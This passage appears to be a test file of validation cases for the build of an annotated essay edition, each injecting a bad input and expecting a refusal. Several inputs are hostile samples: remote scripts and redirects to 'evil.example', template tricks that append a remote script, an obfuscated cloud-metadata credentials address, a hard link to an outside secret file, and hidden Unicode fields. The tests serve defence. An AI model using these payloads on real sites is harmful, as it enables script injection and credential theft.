        replace("docs/about.md", "These biographies are", "These\u180b\u180c biographies are"),
        f"docs/about.md:{line_of('docs/about.md', 'These biographies are')}: holds U+180B, an invisible character that breaks "
        "or reorders the text around it; remove it (write plain text)"),
    "mkdocs.yml: a selector past the tag block's assigned ones in a nav title": (
        replace(CONFIG, "  - Opening: index.md", "  - \"Open\U000e01f0ing\": index.md"),
        f"{CONFIG}:{line_of(CONFIG, '  - Opening: index.md')}: a value holds U+E01F0, {INVISIBLE}"),
    "a private-use character in a record's title": (
        replace(AP, "airstrike at Baghdad", "airstrike\ue000 at Baghdad"),
        f"{AP}:{line_of(AP, 'title: ')}: a value holds U+E000, a private-use character, which each reader's fonts draw "
        "differently or not at all; write the character Unicode has for it"),
}


# Tenth hostile round: a heading in a list item or a quote is a heading too.
IN_HEADING = "an invisible character that makes its anchor and its search entry differ from the words shown; remove it: retype the heading"
CASES |= {
    "a zero-width space in a heading inside a list item": (
        replace("docs/about.md", "### The authors", "- ### The auth\u200bors"),
        f"docs/about.md:{line_of('docs/about.md', '### The authors')}: a heading holds U+200B, {IN_HEADING}"),
    "a zero-width space by reference in a heading inside a quote": (
        replace("docs/about.md", "### The authors", "> ### The auth&#x200B;ors"),
        f"docs/about.md:{line_of('docs/about.md', '### The authors')}: a heading holds U+200B, {IN_HEADING}"),
}


# Tenth hostile round, cases 129-134: a page's own HTML is named in the same run as every other input's problems.
CASES |= {
    "a record's date in words and a script in a page, in one run": (
        steps(replace(AP, "issued: 2020-01-03", "issued: 3 January 2020"),
              replace("docs/about.md", "These biographies are", "<script>alert(1)</script>\n\nThese biographies are")),
        [f"{AP}:{line_of(AP, 'issued: 2020-01-03')}: 'issued' must be an ISO date",
         f"docs/about.md:{line_of('docs/about.md', 'These biographies are')}: HTML element <script> is not allowed in a page"]),
}


# Tenth hostile round, case 172: a host of octal numbers, which browsers read as 169.254.169.254.
CASES |= {
    "a host of octal numbers in a record's address": (
        replace(ABQAIQ, f"url: {UPI}", "url: http://0251.0376.0251.0376/latest/meta-data/iam/"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'http://0251.0376.0251.0376/latest/"
        "meta-data/iam/'; browsers read the host '0251.0376.0251.0376' as the IP address 169.254.169.254 (numbers in octal, "
        "hex or fewer parts): give the address as the site itself gives it"),
    "a host of one number in a record's address": (
        replace(ABQAIQ, f"url: {UPI}", "url: http://2852039166/"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'http://2852039166/'; browsers read "
        "the host '2852039166' as the IP address 169.254.169.254"),
}


# Tenth hostile round, cases 167 and 168: options that add the editors' words to the essay's, unsourced and unseen.
OPTIONS_LINE = line_of(CONFIG, "  - footnotes") + 2  # an extension added below footnotes: its options
CASES |= {
    "mkdocs.yml: abbr's glossary describing words of the essay": (
        replace(CONFIG, "  - footnotes\n", "  - footnotes\n  - abbr:\n      glossary: {Iraq: A country the editors call a "
                "failed state}\n"),
        f"{CONFIG}:{OPTIONS_LINE}: `abbr`'s `glossary` would add the editors' descriptions to words of the essay on "
        "every page, with no source; describe people and groups in sources/essay/glossary.yml"),
    "mkdocs.yml: smarty writing words in place of a dash": (
        replace(CONFIG, "  - footnotes\n", "  - footnotes\n  - smarty:\n      substitutions: {ndash: ' (the editors "
                "disagree) '}\n"),
        f"{CONFIG}:{OPTIONS_LINE}: `smarty`'s `substitutions` would write ' (the editors disagree) ' into the essay's "
        "words in place of a dash or a quotation mark"),
}


CASES |= {
    "CITATION.cff: a title that is not the edition's, ending in a brace": (
        replace("CITATION.cff", 'title: "In Iraq, Restraint Is America’s Best Option: An Annotated Edition"',
                'title: "In Iraq: Notes}"'),
        "CITATION.cff:8: `title` is 'In Iraq: Notes}', but sources/essay/edition.yml (title: subtitle) says In Iraq, "
        "Restraint Is America’s Best Option: An Annotated Edition; set `title: In Iraq, Restraint Is America’s Best Option: "
        "An Annotated Edition`"),
}


CASES |= {
    "anchors.lock: a redirect to a section of a page": (
        replace("anchors.lock", "redirects: {}", 'redirects: {"old-page/": "about/#reuse"}'),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect 'old-page/' → 'about/#reuse': a redirect leads "
        "to a page, not to a section of one (#…); redirect to the page (\"about/\"), and keep the section's old anchor with "
        "an alias"),
}


CASES |= {
    # Thirty-ninth round, T3: a field hidden after U+2028 in a comment, which YAML reads as a line break, was published
    # with exit 0 (mkdocs.yml's site_author, a record's publisher); a refused one was named a line past the editor's.
    "mkdocs.yml: a setting hidden after a line separator in a comment": (
        replace(CONFIG, "# No site_author:", "# Reviewed.\u2028site_author: Hidden Author\n# No site_author:"),
        f"{CONFIG}:{line_of(CONFIG, '# No site_author:')}: holds U+2028, an invisible line separator, which YAML reads as "
        "a line break where an editor shows none; remove it (write plain text)"),
    "a record's field hidden after a paragraph separator in a comment": (
        replace("sources/abqaiq-2019-09-14.yml", "container-title: UPI", "# checked\u2029container-title: Hidden"),
        "sources/abqaiq-2019-09-14.yml:10: holds U+2029, an invisible line separator, which YAML reads as a line break "
        "where an editor shows none; remove it (write plain text)"),
    "CITATION.cff: a field hidden after a line separator in a comment": (
        replace("CITATION.cff", "cff-version: 1.2.0", "# reviewed\u2028doi: 10.5281/zenodo.9999999\ncff-version: 1.2.0"),
        "CITATION.cff:3: holds U+2028, an invisible line separator"),
    "a line separator in a page's front matter": (
        replace("docs/about.md", "description: >-\n  ", "description: >-\n  Notes\u2028 "),
        "docs/about.md:3: holds U+2028, an invisible line separator, which YAML reads as a line break where an editor "
        "shows none; remove it (write plain text)"),
}


# Eleventh hostile round, cases 25, 32 and 35: a YAML input holding only a comment has no tree to name lines in.
CASES |= {
    "anchors.lock holding only a comment": (
        write_file("anchors.lock", b"# emptied\n"),
        "anchors.lock:1: must be a mapping of parts, got null; write `key: value` lines"),
    "layout.yml holding only a comment": (
        write_file("sources/essay/layout.yml", b"# emptied\n"),
        "sources/essay/layout.yml:1: must be a mapping of fields, got null; write `key: value` lines"),
    "CITATION.cff holding only a comment": (
        write_file("CITATION.cff", b"# emptied\n"),
        "CITATION.cff:1: `version` is None, but changes.yml says"),
}


CASES |= {
    "edition.yml: a subtitle ending in a comma": (
        replace("sources/essay/edition.yml", "subtitle: An Annotated Edition", 'subtitle: "An Annotated Edition,"'),
        "sources/essay/edition.yml:4: 'subtitle' ends in ',', after which the Cite panel's forms print the citation "
        "styles' own mark (',.', '?,'), refused as doubled punctuation, got 'An Annotated Edition,'"),
    "edition.yml: a subtitle that is a question": (
        replace("sources/essay/edition.yml", "subtitle: An Annotated Edition", 'subtitle: "Is Restraint Still the Best Option?"'),
        "sources/essay/edition.yml:4: 'subtitle' ends in '?', after which the Cite panel's forms print the citation "
        "styles' own mark (',.', '?,'), refused as doubled punctuation"),
}


CASES |= {
    "a zero-width space in a heading in a list item's indented lines": (
        replace("docs/about.md", "### The authors", "- An item\n\n    ### The auth\u200bors"),
        f"docs/about.md:{line_of('docs/about.md', '### The authors') + 2}: a heading holds U+200B, {IN_HEADING}"),
}


CASES |= {
    "a template's speculation rules prefetching another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '<script type="speculationrules">{"prefetch":[{"source":"list","urls":'
                '["https://evil.example/"]}]}</script>'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <script type=speculationrules>, which has browsers "
        f"fetch or prerender the pages it lists; {TEMPLATE_FIX}"),
}


CASES |= {
    "a page named 404.md": (
        write_file("docs/404.md", b"---\ndescription: Not found.\n---\n\n# Not here\n\nThis page is not here.\n"),
        "docs/404.md: would replace the site's page for addresses it does not have (404.html), which the theme writes; "
        "rename the page"),
}


# Eleventh hostile round's minor findings: the message says what is wrong, and the fix it offers fits.
CASES |= {
    "a page whose front matter holds nothing": (
        write_file("docs/notes.md", b"---\n---\n\n# Notes\n\nA sentence.\n"),
        "docs/notes.md:1: has no description in its front matter; reference managers would take the site's description "
        "for this page's abstract"),
    "a page named with an accented letter": (
        write_file("docs/café.md", "---\ndescription: Notes.\n---\n\n# Café\n".encode()),
        "docs/café.md: a page's file name must be lowercase letters, digits and hyphens (its URL); rename it, for "
        "example to cafe.md"),
    "a CNAME file in docs/": (
        write_file("docs/CNAME", b"edition.example.org\n"),
        "docs/CNAME: an extensionless file would be published as a document of the site"),
}


CASES |= {
    "a code point Unicode has not assigned in a glossary description": (
        replace(GLOSSARY, "name: Quds Force", "name: Quds Force \u0378"),
        f"{GLOSSARY}:{line_of(GLOSSARY, 'name: Quds Force')}: a value holds U+0378, which Unicode (version "
        f"{unicodedata.unidata_version}, as the build reads it) assigns to no character, so no font draws it; write the "
        "character meant, or remove it"),
}


# Twelfth hostile round: a refresh without `url=`, an imagesrcset, a link that fetches a compression dictionary.
CASES |= {
    "a template's refresh to another host without url=": (
        replace(TEMPLATE, DRAWER, DRAWER + '<meta http-equiv="refresh" content="0; https://evil.example/">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <meta http-equiv=refresh> that sends readers to "
        f"'https://evil.example/'; {TEMPLATE_FIX}"),
    "a template's preload with an imagesrcset from another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '<link rel="preload" as="image" href="/x.png" imagesrcset="https://evil.example/a.png 1x">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <link> that loads "
        f"'https://evil.example/a.png' from another host; {TEMPLATE_FIX}"),
    "a template's compression dictionary from another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '<link rel="compression-dictionary" href="https://evil.example/d">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <link> that loads 'https://evil.example/d' from "
        f"another host; {TEMPLATE_FIX}"),
}


# Twelfth hostile round, cases 78-82: overrides/ beside its templates.
CASES |= {
    "overrides: a .txt file a template includes": (
        write_file("overrides/partials/extra-head.txt", b'<link rel="stylesheet" href="https://evil.example/x.css">\n'),
        "overrides/partials/extra-head.txt: a .txt file in overrides/, which MkDocs would publish as a document of the site "
        "and a template could include, unread by the checks"),
    "overrides: a document of its own with a script": (
        write_file("overrides/x.xhtml", b'<script src="https://evil.example/x.js"></script>\n'),
        "overrides/x.xhtml: a .xhtml file in overrides/, which MkDocs would publish as a document of the site"),
    "overrides: an icon linking to another host": (
        write_file("overrides/.icons/material/weather-night.svg",
                   b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p.png"/></svg>\n'),
        "overrides/.icons/material/weather-night.svg:1: an SVG image that holds <image>, which is not a plain shape, text "
        "or paint element; save it without scripts, links or embedded documents"),
    "overrides: a stylesheet importing from another host": (
        write_file("overrides/assets/stylesheets/main.css", b'@import url("https://evil.example/x.css");\n'),
        "overrides/assets/stylesheets/main.css:1: 'https://evil.example/x.css' is fetched from another host"),
}


# Twelfth hostile round, cases 199-219: addresses no URL parser reads (a bracket left open, or around no IP address).
CSS_END = len((Path(__file__).resolve().parents[1] / "docs/stylesheets/edition.css").read_text(encoding="utf-8")
              .rstrip("\n").split("\n")) + 2
UNREAD = "it is no address a browser reads (a bracket left open, or one that holds no IP address)"
CASES |= {
    "docs: an autolink with a bracket left open": (
        add_line("docs/about.md", "See <http://[::1/> now."),
        f"docs/about.md:{ABOUT_END}: a link to 'http://[::1/': {UNREAD}"),
    "docs: a link to a bracketed host that is no IP address": (
        add_line("docs/about.md", "See [the host](http://[zz]/)."),
        f"docs/about.md:{ABOUT_END}: a link to 'http://[zz]/': {UNREAD}"),
    "mkdocs.yml: a site_url with a bracket left open": (
        replace(CONFIG, "site_url: ", 'site_url: "https://[x/" #'),
        f"{CONFIG}:{line_of(CONFIG, 'site_url: ')}: `site_url` must be a web address, got 'https://[x/'"),
    "mkdocs.yml: a favicon with a bracket left open": (
        replace(CONFIG, "favicon: assets/favicon.svg", 'favicon: "http://[x/f.svg"'),
        f"{CONFIG}:{line_of(CONFIG, 'favicon: assets/favicon.svg')}: `theme.favicon` loads 'http://[x/f.svg' from another "
        "host"),
    "a template's link with a bracket left open": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="http://[x/">help</a>'),  # named at its line since round 22's case 58
        f"{TEMPLATE}:105: every page would carry a link to 'http://[x/' that no reader should be sent to (write the address "
        "whole: a bracket left open, or one that holds no IP address, is read by no browser)"),
    "a stylesheet's url() with a bracket left open": (
        add_line("docs/stylesheets/edition.css", '.x { background: url("http://[x/a.png"); }'),
        f"docs/stylesheets/edition.css:{CSS_END}: 'http://[x/a.png' is fetched from another host"),
}


CASES |= {
    "a template appending a remote script to the settings": (
        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript.append('https://evil.example/x.js') %}"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append, which changes the settings or data every "
        "later line of the theme reads"),
    "a template appending through attr()": (
        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = (config.extra_javascript|attr('append'))('https://evil.example/x.js') %}"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append"),
    "a template adding with __iadd__": (
        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript.__iadd__(['https://evil.example/x.js']) %}"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .__iadd__"),
    "a template appending through a subscript": (
        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript['append']('https://evil.example/x.js') %}"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append"),
    "a template's link to a search description on another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '<link rel="search" type="application/opensearchdescription+xml" '
                'href="https://evil.example/opensearch.xml" title="x">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <link> that loads "
        "'https://evil.example/opensearch.xml' from another host"),
    "a template's unassigned code point": (
        replace(TEMPLATE, DRAWER, DRAWER + "<p>Edition \u0378</p>"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+0378, which Unicode"),
    "docs: an unassigned code point by reference on an ASCII line": (
        add_line("docs/about.md", "A sign: &#x378;."),
        f"docs/about.md:{ABOUT_END}: holds U+0378, which Unicode"),
    "edition.yml: a subtitle ending in a fullwidth question mark": (
        replace("sources/essay/edition.yml", "subtitle: An Annotated Edition", 'subtitle: "An Annotated Edition\uff1f"'),
        "sources/essay/edition.yml:4: 'subtitle' ends in '\uff1f', after which"),
    "overrides: a script in place of Material's bundle": (
        write_file("overrides/assets/javascripts/bundle.js", b'location = "https://evil.example/";\n'),
        "overrides/assets/javascripts/bundle.js: a script in overrides/, which would replace Material's or run beside it, "
        "read by no check"),
}


CASES |= {
    "docs: a code point Unicode has not assigned": (
        add_line("docs/about.md", "A sign: \u0378."),
        f"docs/about.md:{ABOUT_END}: holds U+0378, which Unicode (version {unicodedata.unidata_version}, as the build reads "
        "it) assigns to no character, so no font draws it; write the character meant, or remove it"),
}


CASES |= {
    "layout.yml: a digest with its algorithm before it": (
        replace("sources/essay/layout.yml", "sha256: ", "sha256: sha256:"),
        f"sources/essay/layout.yml:{line_of('sources/essay/layout.yml', 'sha256: ')}: `sha256` is 'sha256:"),
    "claims.yml: a paragraph number written with an underscore": (
        replace("sources/essay/claims.yml", "paragraph: 2\n", "paragraph: 0_2\n"),
        f"sources/essay/claims.yml:{line_of('sources/essay/claims.yml', 'paragraph: 2')}: '0_2' is read as a number by "
        "YAML 1.1, which drops its '_'; write the number's digits alone, or quote the value if it is text"),
}


CASES |= {
    "docs: an HTML id the edition writes for a source record": (
        replace("docs/sources.md", "[[edition:sources]]", '<span id="src-dod-2020-03-12">Unrelated.</span>\n\n[[edition:sources]]'),
        f"docs/sources.md:{line_of('docs/sources.md', '[[edition:sources]]')}: the id 'src-dod-2020-03-12' is one the "
        "edition writes itself"),
    "docs: an HTML id the Cite panel has": (
        add_line("docs/about.md", '<span id="cite">x</span>'),
        f"docs/about.md:{ABOUT_END}: the id 'cite' is one the edition writes itself"),
    "docs: an HTML id an event of the chronology has": (
        add_line("docs/chronology.md", '<a id="ev-pmf-established"></a>'),
        f"docs/chronology.md:{added_line('docs/chronology.md')}: "
        "the id 'ev-pmf-established' is one the edition writes itself"),
    "docs: an HTML id a heading of the page has": (
        add_line("docs/about.md", '<span id="reuse">x</span>'),
        f"docs/about.md:{ABOUT_END}: the id 'reuse' is given twice on the page; give each element an id of its own"),
}


CASES |= {
    "mkdocs.yml: the table of contents' headings starting at level 3": (
        replace("mkdocs.yml", "      permalink_title: Link to this section\n",
                "      permalink_title: Link to this section\n      baselevel: 3\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', 'permalink_title:') + 1}: `toc`'s `baselevel` is 3; the edition's headings, "
        "anchors, styles and PDF are made for its default, '1'; remove `baselevel`"),
    "mkdocs.yml: the notes' ids joined by a dash": (
        replace("mkdocs.yml", "  - footnotes\n", "  - footnotes:\n      SEPARATOR: \"-\"\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', '  - footnotes') + 1}: `footnotes`'s `SEPARATOR` is '-'"),
    # Fifteenth round: named at built pages or as thirty lost anchors, never at mkdocs.yml (T17, T18, T5).
    "mkdocs.yml: the permanent links' class changed": (
        replace("mkdocs.yml", "      permalink_title: Link to this section\n",
                "      permalink_title: Link to this section\n      permalink_class: x\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', 'permalink_title:') + 1}: `toc`'s `permalink_class` is 'x'; the edition's "
        "headings, anchors, styles and PDF are made for its default, 'headerlink'; remove `permalink_class`"),
    "mkdocs.yml: headings' ids joined by an underscore": (
        replace("mkdocs.yml", "      permalink_title: Link to this section\n",
                "      permalink_title: Link to this section\n      separator: _\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', 'permalink_title:') + 1}: `toc`'s `separator` is '_'"),
    "mkdocs.yml: a back-link title padding the note's number to fifty million characters": (  # sixteenth round, T2
        replace("mkdocs.yml", "  - footnotes\n", "  - footnotes:\n      BACKLINK_TITLE: 'Back {0:>50000000}'\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', '  - footnotes') + 1}: `footnotes`'s `BACKLINK_TITLE` holds a format field other "
        "than {}, the note's number; write the title with {} where the number goes, and no other brace"),
    "mkdocs.yml: notes' ids numbered apart on every page": (
        replace("mkdocs.yml", "  - footnotes\n", "  - footnotes:\n      UNIQUE_IDS: true\n"),
        f"mkdocs.yml:{line_of('mkdocs.yml', '  - footnotes') + 1}: `footnotes`'s `UNIQUE_IDS` is True"),
}


CHANGES = "sources/essay/changes.yml"
NEW_VERSION = "- version: 0.3.0\n  date: {}\n  changes:\n    - kind: edition\n      what: A change.\n- version: 0.2.0\n"
CASES |= {
    "changes.yml: a version released in the future": (
        replace(CHANGES, "- version: 0.2.0\n", NEW_VERSION.format("2099-12-31")),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.2.0') + 1}: version 0.3.0 is dated 2099-12-31, in the future; date a "
        "version on the day it is released"),
    "changes.yml: a new version dated before the one below it": (
        replace(CHANGES, "- version: 0.2.0\n", NEW_VERSION.format("2026-11-20")),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.2.0') + 6}: version 0.2.0 is dated 2026-11-25, after 0.3.0 above it "
        "(2026-11-20); correct the dates: each version is released on or after the one below it"),
    "changes.yml: a version released before the essay it reproduces": (  # fifteenth round, C10 and C11
        replace(CHANGES, "- version: 0.1.0\n  date: 2026-11-25", "- version: 0.1.0\n  date: 2019-01-01"),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.1.0') + 1}: version 0.1.0 is dated 2019-01-01, before the essay it "
        "reproduces was published (2020-03); date a version on the day it is released"),
    "changes.yml: a release date with a time of day": (  # fifteenth round, C7: quoted as Python's datetime repr
        replace(CHANGES, "- version: 0.2.0\n  date: 2026-11-25", "- version: 0.2.0\n  date: 2026-11-25T23:59:59-12:00"),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.2.0') + 1}: version 0.2.0: 'date' must be the release date as YYYY-MM-DD, "
        "got 2026-11-25T23:59:59-12:00"),
    "changes.yml: a version listed twice": (
        replace(CHANGES, "- version: 0.2.0\n", NEW_VERSION.replace("0.3.0", "0.2.0").format("2026-11-30")),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.2.0') + 5}: version 0.2.0 is listed twice (first on line "
        f"{line_of(CHANGES, '- version: 0.2.0')})"),
}


CASES |= {
    "CITATION.cff: the original essay's year changed": (
        replace("CITATION.cff", "    year: 2020\n", "    year: 2021\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '    year: 2020')}: the first of `references`, the original essay, gives "
        "`year` as 2021, but sources/warontherocks-2020-03.yml says 2020; write what sources/warontherocks-2020-03.yml says"),
    "CITATION.cff: the original essay at another host": (
        replace("CITATION.cff", '"https://warontherocks.com/2020/03/', '"https://evil.example/2020/03/'),
        f"CITATION.cff:{line_of('CITATION.cff', 'https://warontherocks.com/2020/03/')}: the first of `references`, the "
        "original essay, gives `url` as 'https://evil.example/"),
    # Fifteenth round: what else GitHub and Zenodo publish of the essay's reference, or in the edition's place (F1 to F15).
    "CITATION.cff: a preferred citation of another work": (
        lambda root: (root / "CITATION.cff").write_text((root / "CITATION.cff").read_text(encoding="utf-8").replace(
            "references:\n", "preferred-citation:\n  type: article\n  title: Why Iraq Needs US Troops\n  authors:\n"
            "    - family-names: Mallory\n      given-names: Eve\nreferences:\n"), encoding="utf-8"),
        f"CITATION.cff:{line_of('CITATION.cff', 'references:')}: `preferred-citation` would have GitHub and Zenodo cite it "
        "in place of the edition this file describes; remove it: the edition is cited as the file's own fields say"),
    "mkdocs.yml: the site's address with a query and a fragment": (  # sixteenth round, T6
        steps(replace("mkdocs.yml", "site_url: https://iraq-restraint-edition.github.io/",
                      "site_url: https://iraq-restraint-edition.github.io/?q=1#f"),
              replace("CITATION.cff", 'url: "https://iraq-restraint-edition.github.io/"',
                      'url: "https://iraq-restraint-edition.github.io/?q=1#f"')),
        f"mkdocs.yml:{line_of('mkdocs.yml', 'site_url:')}: `site_url` 'https://iraq-restraint-edition.github.io/?q=1#f' holds "
        "a ?query or a #fragment, after which no page's path can be added"),
    "CITATION.cff: a second reference, with a DOI": (  # seventeenth round, case 3: only the first was checked
        lambda root: (root / "CITATION.cff").write_text((root / "CITATION.cff").read_text(encoding="utf-8") + (
            "  - type: website\n    title: War on the Rocks\n    doi: 10.1000/182\n    authors:\n      - name: War on the Rocks\n"),
            encoding="utf-8"),
        f"CITATION.cff:{len((Path(__file__).resolve().parents[1] / 'CITATION.cff').read_text(encoding='utf-8').splitlines()) + 1}"
        ": a reference after the first, the original essay: the build has no record to check it against; remove it"),
    "CITATION.cff: an ORCID for one of the edition's authors": (  # seventeenth round, case 2
        replace("CITATION.cff", "  - family-names: Fantappie\n    given-names: Maria\n",
                "  - family-names: Fantappie\n    given-names: Maria\n    orcid: https://orcid.org/0000-0000-0000-0000\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '  - family-names: Fantappie') + 2}: `orcid` of an author is a field no input "
        "of the edition holds"),
    "CITATION.cff: another work's DOI for the edition": (  # sixteenth round, T4
        replace("CITATION.cff", "license: CC-BY-4.0\n", "license: CC-BY-4.0\ndoi: 10.5281/zenodo.1234\n"),
        f"CITATION.cff:{line_of('CITATION.cff', 'license: CC-BY-4.0') + 1}: `doi` is a field no input of the edition holds, so "
        "the build cannot check what GitHub and Zenodo would cite the edition by; remove `doi`"),
    "CITATION.cff: a DOI for the original essay that its record lacks": (
        replace("CITATION.cff", "    month: 3\n", "    month: 3\n    doi: 10.9999/evil.1234\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '    month: 3') + 1}: the first of `references`, the original essay, gives "
        "`doi`, which sources/warontherocks-2020-03.yml has no field for; remove `doi`"),
    "CITATION.cff: the original essay as software": (
        replace("CITATION.cff", "  - type: magazine-article\n", "  - type: software\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '  - type: magazine-article')}: the first of `references`, the original "
        "essay, gives `type` as 'software', but sources/warontherocks-2020-03.yml says 'magazine-article'"),
    "CITATION.cff: another author and journal for the original essay": (
        steps(replace("CITATION.cff", "      - family-names: Heller\n        given-names: Sam\n",
                      "      - family-names: Smith\n        given-names: John\n"),
              replace("CITATION.cff", "journal: War on the Rocks", "journal: Foreign Affairs")),
        [f"CITATION.cff:{line_of('CITATION.cff', '    authors:')}: the first of `references`, the original essay, gives "
         "`authors` as Fantappie, Maria; Smith, John, but sources/warontherocks-2020-03.yml says Fantappie, Maria; Heller, "
         "Sam; write what", f"CITATION.cff:{line_of('CITATION.cff', 'journal: War on the Rocks')}: the first of `references`, "
         "the original essay, gives `journal` as 'Foreign Affairs', but sources/warontherocks-2020-03.yml says 'War on the Rocks'"]),
}


CASES |= {
    "events.yml: a paragraph's number with a leading zero, octal to YAML 1.1": (  # fifteenth round, E16: ¶8, not ¶10
        replace("sources/essay/events.yml", "  paragraphs: [10]\n", "  paragraphs: [010]\n"),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', '  paragraphs: [10]')}: '010' is read by YAML 1.1 as "
        "the number 8, not as its digits say; write the number in plain decimal digits, without a leading 0, or quote the "
        "value if it is text"),
    "CITATION.cff: the essay's year as a decimal number": (  # eighteenth round, case 36: 2020.0 == 2020 in Python
        replace("CITATION.cff", "    year: 2020\n", "    year: 2020.0\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '    year: 2020')}: the first of `references`, the original essay, gives "
        "`year` as 2020.0, but sources/warontherocks-2020-03.yml says 2020"),
    "CITATION.cff: the essay's month as true": (
        steps(replace("sources/warontherocks-2020-03.yml", "issued: 2020-03", "issued: 2020-01"),
              replace("CITATION.cff", "    month: 3\n", "    month: true\n")),
        f"CITATION.cff:{line_of('CITATION.cff', '    month: 3')}: the first of `references`, the original essay, gives "
        "`month` as true, but sources/warontherocks-2020-03.yml says 1"),
    "CITATION.cff: a month in hex": (
        replace("CITATION.cff", "    month: 3\n", "    month: 0x3\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '    month: 3')}: '0x3' is read by YAML 1.1 as the number 3"),
    "events.yml: an event no paragraph discusses": (
        replace("sources/essay/events.yml", "  paragraphs: [10]\n", "  paragraphs: []\n"),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', '  paragraphs: [10]')}: event 'pmf-established': "
        "'paragraphs' must be a list of the numbers of the paragraphs that discuss it, at least one, got []"),
}


# Sixteenth round, T1: ids the edition's listings write, given again by a page above its marker.
CASES |= {
    "docs: an HTML id an editorial note has": (
        replace("docs/editorial-notes.md", "[[edition:", '<span id="ed-zarif">typed</span>\n\n[[edition:'),
        f"docs/editorial-notes.md:{line_of('docs/editorial-notes.md', '[[edition:')}: the id 'ed-zarif' is one the edition "
        "writes itself"),
    "docs: a version's id given by an attribute list": (
        replace("docs/changes.md", "[[edition:", "## Latest { #v0.2.0 }\n\n[[edition:"),
        f"docs/changes.md:{line_of('docs/changes.md', '[[edition:')}: the id 'v0.2.0' is one the edition writes itself"),
    "docs: an HTML id a heading of the Sources listing has": (
        replace("docs/sources.md", "[[edition:sources]]", '<span id="records">typed</span>\n\n[[edition:sources]]'),
        f"docs/sources.md:{line_of('docs/sources.md', '[[edition:sources]]')}: the id 'records' is given to 2 elements of the "
        "page, so every link to it lands on the first; give the element the page adds an id of its own"),
}
RENDERED_TEMPLATES.add("docs: an HTML id a heading of the Sources listing has")


def hard_link(path: str):
    """Break: a file of the project that is a second name for a file outside it."""
    def breaks(root: Path) -> None:
        outside = root.parent / "secret.txt"
        outside.write_text("not to be published\n", encoding="utf-8")
        os.link(outside, root / path)
    return breaks


CASES["docs: a hard link to a file outside the project"] = (  # sixteenth round: git never makes one
    hard_link("docs/assets/notes.png"),
    "docs/assets/notes.png: is a hard link: its contents are also another file's, which may lie outside the project; copy "
    "the file itself into the project (cp, not ln)")


# Sixteenth round's minor cases.
CASES |= {
    "changes.yml: a version with a leading zero": (  # 41: SemVer forbids it, and 0.3.0 was then "not higher"
        steps(replace(CHANGES, "- version: 0.2.0\n", "- version: 0.02.0\n"), replace("CITATION.cff", "version: 0.2.0", "version: 0.02.0")),
        f"{CHANGES}:{line_of(CHANGES, '- version: 0.2.0')}: version 0.02.0: 'version' must be MAJOR.MINOR.PATCH, e.g. 0.3.0, "
        "got '0.02.0'"),
    "CITATION.cff: an author of the essay with an ORCID its record lacks": (  # 58: both sides printed alike
        replace("CITATION.cff", "      - family-names: Heller\n        given-names: Sam\n",
                "      - family-names: Heller\n        given-names: Sam\n        orcid: https://orcid.org/0000-0000-0000-0000\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '    authors:')}: the first of `references`, the original essay, gives `authors` "
        "as [{'family-names': 'Fantappie'"),
    "events.yml: a paragraph number left empty": (  # 73: "got None"
        replace("sources/essay/events.yml", "  paragraphs: [10]\n", "  paragraphs: [null]\n"),
        f"sources/essay/events.yml:{line_of('sources/essay/events.yml', '  paragraphs: [10]')}: event 'pmf-established': "
        "'paragraphs' entry 1: not a whole number, got null"),
    "quotations.yml: a source's words that are a scare quote too": (  # 147: the kind was dropped unseen
        replace("sources/essay/quotations.yml", "{paragraph: 2, quote: destroy, source: nyt-2020-03-27}",
                "{paragraph: 2, quote: destroy, source: nyt-2020-03-27, kind: scare, why: x}"),
        f"sources/essay/quotations.yml:{line_of('sources/essay/quotations.yml', 'quote: destroy')}: quotation “destroy” names a "
        "source and is a scare too; keep `source:` if they are the source's words, or `kind: scare` with `why:` if they are not"),
}


CASES |= {  # eighteenth round, cases 43 and 16: the parts named apart from the essay's text overlap it
    "layout.yml: the image credit on a line of the essay's text": (
